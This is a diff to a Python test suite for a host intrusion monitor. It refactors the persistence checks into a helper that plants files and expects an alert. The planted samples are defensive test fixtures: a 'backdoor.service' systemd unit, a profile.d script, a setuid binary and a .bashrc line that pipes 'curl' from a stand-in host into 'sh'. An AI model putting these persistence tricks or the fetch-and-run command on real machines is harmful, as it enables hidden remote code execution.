@@ -285,6 +285,18 @@ def editing_case(base):
           "editing: saving in place is a modification")
 
 
+def drop(mon, root, rel, content, what):
+    """Writes root/rel (making its folders) and expects a persistence alert naming it."""
+    path = os.path.join(root, rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    time.sleep(0.3)  # the monitor adds watches for the new folders
+    with open(path, "w") as f:
+        f.write(content)
+    mon.drain(1)
+    check(any(a["fim"]["path"] == path for a in mon.alerts(2102)),
+          "persistence: %s raises an alert" % what)
+
+
 def persistence_case(base):
     root = os.path.join(base, "host")
     os.makedirs(os.path.join(root, "etc", "cron.d"))
@@ -296,35 +308,17 @@ def persistence_case(base):
     got = mon.wait_alert(2102, 5)
     check(got is not None and got[1]["fim"]["path"].endswith("/etc/cron.d/evil"),
           "persistence: a new cron file raises YJ-HOST-2102: %r" % (got,))
-    units = os.path.join(root, "etc", "systemd", "system")
-    os.makedirs(units)
-    time.sleep(0.3)  # the new folders are watched as they appear
-    with open(os.path.join(units, "backdoor.service"), "w") as f:
-        f.write("[Service]\nExecStart=/tmp/x\n")
-    mon.drain(1)
-    check(any(a["fim"]["path"].endswith("/backdoor.service") for a in mon.alerts(2102)),
-          "persistence: a unit in a folder created while watching raises an alert")
+    # Folders created while watching are watched as they appear.
+    drop(mon, root, "etc/systemd/system/backdoor.service", "[Service]\nExecStart=/tmp/x\n",
+         "a unit in a folder created while watching")
+    drop(mon, root, "etc/profile.d/zz.sh", "export X=1\n", "a shell profile script")
+    drop(mon, root, "home/alice/.bashrc", "curl -s http://example.invalid/x | sh\n",
+         "a user's .bashrc")
     shell = os.path.join(root, "tmp-shell")
     shutil.copy("/bin/true", shell)
     os.chmod(shell, 0o4755)
     got = mon.wait_alert(2103, 5)
     check(got is not None, "persistence: a new set-user-ID file raises YJ-HOST-2103")
-    profile = os.path.join(root, "etc", "profile.d")
-    os.makedirs(profile)
-    time.sleep(0.3)
-    with open(os.path.join(profile, "zz.sh"), "w") as f:
-        f.write("export X=1\n")
-    mon.drain(1)
-    check(any(a["fim"]["path"].endswith("/profile.d/zz.sh") for a in mon.alerts(2102)),
-          "persistence: a shell profile script raises an alert")
-    home = os.path.join(root, "home", "alice")
-    os.makedirs(home)
-    time.sleep(0.3)
-    with open(os.path.join(home, ".bashrc"), "a") as f:
-        f.write("curl -s http://example.invalid/x | sh\n")
-    mon.drain(1)
-    check(any(a["fim"]["path"].endswith("/home/alice/.bashrc") for a in mon.alerts(2102)),
-          "persistence: a user's .bashrc raises an alert")
     mon.stop()
     check(mon.alerts(RANSOM) == [], "persistence: no ransomware alert")
 
